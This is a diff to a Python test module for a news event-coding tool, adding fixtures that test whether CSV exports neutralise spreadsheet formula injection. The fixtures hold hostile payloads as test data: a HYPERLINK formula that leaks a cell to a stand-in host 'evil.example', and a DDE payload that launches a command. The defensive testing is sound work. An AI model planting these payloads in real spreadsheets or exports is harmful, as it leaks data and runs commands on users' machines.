@@ -2,17 +2,30 @@
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
+import io
 from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
 
-from dateline.model import Document, Event, content_id
+from dateline.export import FORMULA_PREFIXES
+from dateline.model import (
+    Actor,
+    CharSpan,
+    Document,
+    Event,
+    Place,
+    TimeSpan,
+    content_id,
+)
 from dateline.pipeline import Coder
 from dateline.read import Furniture
 from dateline.resources import Resources, load_resources
 from dateline.settings import Settings
+from dateline.store import StoredDocument
+from dateline.store.base import CODED
 
 ROOT = Path(__file__).resolve().parent.parent
 SAMPLES = ROOT / "docs" / "samples"
@@ -62,6 +75,72 @@ def only(events: list[Event], event_type: str) -> Event:
         f"expected one {event_type} event, got {[(e.event_type, e.trigger.text) for e in events]}"
     )
     return found[0]
+
+
+# Texts an article (or a hostile site) can put in front of a spreadsheet user.
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
+SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
+PLUS = "+1 gunmen attacked Mopti on Monday."
+MINUS = "-2+3"
+TAB = "\t=1+1"
+CR = "\r=1+1"
+
+
+def formula_records() -> tuple[StoredDocument, Event]:
+    """A stored document and event whose every text field starts a formula."""
+    text = PLUS + " More text follows."
+    doc = Document(
+        id="formula-article",
+        text=text,
+        title=HYPERLINK,
+        outlet=SUM,
+        published=dt.date(2024, 3, 5),
+        language="en",
+    )
+    event = Event(
+        event_id="formula0event000",
+        doc_id=doc.id,
+        language="en",
+        event_type="ASSAULT",
+        mode=None,
+        actor=Actor(name=HYPERLINK, text="gunmen", generic=True),
+        target=Actor(name=MINUS, text="Mopti"),
+        location=Place(name=TAB, text="Mopti", country="MLI", lat=14.49, lon=-4.19),
+        date=TimeSpan(
+            start=dt.date(2024, 3, 4), end=dt.date(2024, 3, 4), text="on Monday"
+        ),
+        fatalities=None,
+        injured=None,
+        attributed_to=SUM,
+        certainty="reported",
+        evidence=CharSpan(start=0, end=len(PLUS), text=PLUS),
+        trigger=CharSpan(start=9, end=17, text="attacked"),
+        flags=(CR,),
+    )
+    return StoredDocument(document=doc, status=CODED), event
+
+
+def read_csv(text: str) -> list[dict[str, str]]:
+    """Rows of a CSV export, as a spreadsheet or pandas would read them."""
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+def _is_number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
+
+
+def assert_no_formula(rows: list[dict[str, str]], where: str) -> None:
+    """Fail if any text cell would run as a spreadsheet formula."""
+    for row in rows:
+        for column, cell in row.items():
+            # A number (a negative longitude) is a number, not a formula.
+            assert _is_number(cell) or not cell.startswith(FORMULA_PREFIXES), (
+                f"{where}: column {column} hands a spreadsheet the formula {cell!r}"
+            )
 
 
 # --- Store backends: every store test runs on SQLite and on PostgreSQL. ---
